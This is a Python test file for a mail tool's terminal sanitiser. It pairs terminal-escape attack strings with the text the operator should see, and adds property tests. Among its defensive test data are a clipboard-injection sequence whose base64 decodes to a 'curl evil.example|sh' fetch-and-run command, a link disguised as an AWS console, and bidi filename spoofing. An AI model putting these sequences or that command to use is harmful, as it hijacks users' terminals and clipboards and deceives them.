"""rootmail.terminal: what reaches an operator's terminal from mail (attack table and properties)."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rootmail.terminal import clean, clean_line, json_line, visible_bytes

# (attack, text, what the operator must see)
ATTACKS = [
    ("CSI colour", "a\x1b[31mred\x1b[0m b", "ared b"),
    ("CSI clear screen", "x\x1b[2J\x1b[Hy", "xy"),
    ("CSI private mode", "x\x1b[?1049hy", "xy"),
    ("OSC window title (BEL)", "x\x1b]0;rootmail: all clear\x07y", "xy"),
    ("OSC title (ST)", "x\x1b]2;title\x1b\\y", "xy"),
    ("OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x07AWS console\x1b]8;;\x07", "AWS console"),
    ("OSC 52 clipboard", "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07y", "xy"),
    ("DCS", "x\x1bP1$r0m\x1b\\y", "xy"),
    ("APC", "x\x1b_payload\x1b\\y", "xy"),
    ("8-bit CSI", "x\x9b2Jy", "xy"),
    ("8-bit OSC", "x\x9d0;title\x9cy", "xy"),
    ("unterminated OSC keeps the rest", "x\x1b]0;rest of subject", "x0;rest of subject"),
    ("carriage return overwrite", "evil\rAmazon", "evilAmazon"),
    ("backspace overwrite", "evil\b\b\b\bgood", "evilgood"),
    ("bell and NUL", "a\x07\x00b", "ab"),
    ("DEL", "a\x7fb", "ab"),
    ("bidi override", "invoice\u202egnp.exe", "invoicegnp.exe"),
    ("bidi isolate", "a\u2066b\u2069c", "abc"),
    ("zero-width inside a code", "48\u200b29\u200d13", "482913"),
    ("NEL (C1)", "a\x85b", "ab"),
    ("letters kept", "Zurücksetzen 日本語 ✓", "Zurücksetzen 日本語 ✓"),
]


@pytest.mark.parametrize(("name", "text", "shown"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_clean_removes_terminal_sequences(name: str, text: str, shown: str) -> None:
    assert clean(text) == shown


def test_clean_keeps_newlines_and_tabs_clean_line_does_not() -> None:
    assert clean("a\nb\tc\u2028d") == "a\nb\tc\nd"
    assert clean_line("Subject\n  42  closed  forged row\tx\u2029y") == "Subject   42  closed  forged row x y"


_UNSAFE_CATEGORIES = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")


def _unsafe(text: str, allowed: str = "") -> list[str]:
    return [c for c in text if c not in allowed and unicodedata.category(c) in _UNSAFE_CATEGORIES]


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=80))
def test_property_clean_leaves_nothing_a_terminal_interprets(text: str) -> None:
    assert _unsafe(clean(text), allowed="\n\t") == []
    line = clean_line(text)
    assert _unsafe(line) == [] and "\n" not in line


@settings(max_examples=400, deadline=None)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=40),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                    max_leaves=12))
def test_property_json_line_is_the_same_value_and_terminal_safe(value: object) -> None:
    out = json_line(value)
    assert json.loads(out) == value
    assert _unsafe(out) == [] and "\n" not in out


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=120))
def test_property_revealed_bytes_on_a_terminal_are_inert(raw: bytes) -> None:
    shown = visible_bytes(raw).decode("utf-8")
    assert _unsafe(shown.replace("\r\n", "\n"), allowed="\n\t") == []


def test_revealed_bytes_keep_text_and_show_escapes() -> None:
    raw = "Subject: Zurücksetzen \x1b[2J\u202e\r\n\r\nline\rover".encode() + b"\xff"
    assert visible_bytes(raw) == "Subject: Zurücksetzen \\x1b[2J\\u202e\r\n\r\nline\\x0dover\\xff".encode()
    assert visible_bytes(b"plain\r\nmail\r\n") == b"plain\r\nmail\r\n"
